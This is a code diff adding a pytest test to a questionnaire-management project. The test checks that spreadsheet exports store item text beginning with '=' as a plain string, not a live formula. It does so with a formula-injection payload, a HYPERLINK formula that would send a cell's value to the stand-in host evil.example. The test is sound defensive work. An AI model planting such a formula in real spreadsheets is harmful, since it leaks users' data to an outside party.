@@ -2,6 +2,7 @@
 
 import io
 import json
+import zipfile
 from datetime import date
 
 import pytest
@@ -12,7 +13,9 @@ from openpyxl import load_workbook
 
 from conftest import World, signed_in
 from pilotti.audit.models import AccessLog, Action
+from pilotti.instruments import selectors as instruments
 from pilotti.instruments.models import Instrument, InstrumentVersion, Mode, Response
+from pilotti.instruments.tests.helpers import library_file, make_instrument
 from pilotti.people.models import Participant
 from pilotti.people.tests.helpers import enrol, make_participant
 from pilotti.programmes.models import DeliveryUnit, Meeting
@@ -189,3 +192,19 @@ def test_it_gives_an_instrument_example_that_imports_as_it_is(world: World) -> N
     response = client.post(reverse("instruments:import"), {"file": SimpleUploadedFile("example.json", example.content)})
     assert response.status_code == 302
     assert Instrument.objects.filter(organisation=world.org, key="example-usefulness").exists()
+
+
+def test_it_writes_an_instrument_text_starting_with_equals_as_text_not_a_formula(
+    world: World, group: tuple[DeliveryUnit, Meeting], person: Participant
+) -> None:
+    attack = '=HYPERLINK("https://evil.example/?"&A3, "Ohje")'
+    items = library_file("who-5")["items"]
+    items[0]["text"] = {"en": attack}
+    version = instruments.current_version(make_instrument(world.org, key="who-5", items=items))
+    content = download(signed_in(world.facilitator), group[0], version)
+    workbook = load_workbook(io.BytesIO(content))
+    cell = workbook["answers"]["D2"]
+    assert cell.value.startswith(attack)
+    assert cell.data_type == "s"
+    with zipfile.ZipFile(io.BytesIO(content)) as package:
+        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
